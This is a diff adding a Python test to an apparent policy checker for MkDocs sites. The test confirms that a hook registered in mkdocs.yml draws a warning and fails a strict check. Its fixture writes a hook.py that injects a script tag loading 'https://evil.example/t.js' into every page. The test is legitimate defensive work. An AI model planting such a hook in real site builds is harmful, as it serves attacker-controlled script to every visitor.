@@ -64,3 +64,21 @@ def test_a_copyright_that_loads_from_another_host_is_refused(
     assert built.returncode == 1 and "Traceback" not in built.stderr, built.stderr
     assert f"mkdocs.yml:{line}: copyright:" in built.stderr
     assert not out.exists()
+
+
+def test_a_hook_in_mkdocs_yml_is_a_warning_of_check_as_an_unknown_plugin_is(three_versions: PolicyRepo) -> None:
+    # a hook is Python run on every page: this one adds a script from another host to each of them
+    three_versions.write(
+        "hook.py",
+        "def on_post_page(output, page, config):\n"
+        "    return output.replace('</head>', '<script src=\"https://evil.example/t.js\"></script></head>')\n",
+    )
+    config = three_versions.path / "mkdocs.yml"
+    text = config.read_text(encoding="utf-8") + "hooks:\n  - hook.py\n"
+    config.write_text(text, encoding="utf-8")
+    three_versions.commit("a hook", "2026-11-02T10:00:00+01:00")
+    result = three_versions.smops("check")
+    line = len(text.splitlines())
+    assert f"mkdocs.yml:{line}: warning: hooks.0: the hook 'hook.py' runs on every page" in result.stderr, result.stderr
+    assert "Traceback" not in result.stderr
+    assert three_versions.smops("check", "--strict").returncode == 1
